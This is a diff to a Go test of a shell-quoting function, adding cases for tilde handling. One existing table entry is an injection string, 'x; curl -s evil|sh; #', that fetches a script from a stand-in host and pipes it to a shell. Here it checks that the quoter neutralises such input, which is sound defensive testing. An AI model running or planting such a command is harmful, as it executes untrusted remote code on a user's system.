@@ -11,6 +11,8 @@ func TestShellWord(t *testing.T) {
 		"x; curl -s evil|sh; #":       "'x; curl -s evil|sh; #'",
 		"it's":                        `'it'\''s'`,
 		"":                            "''",
+		"~root/x.json":                "'~root/x.json'",
+		"a~b":                         "a~b",
 		"\x1b[2J":                     `"'\x1b[2J'"`,
 	} {
 		if got := ShellWord(in); got != want {
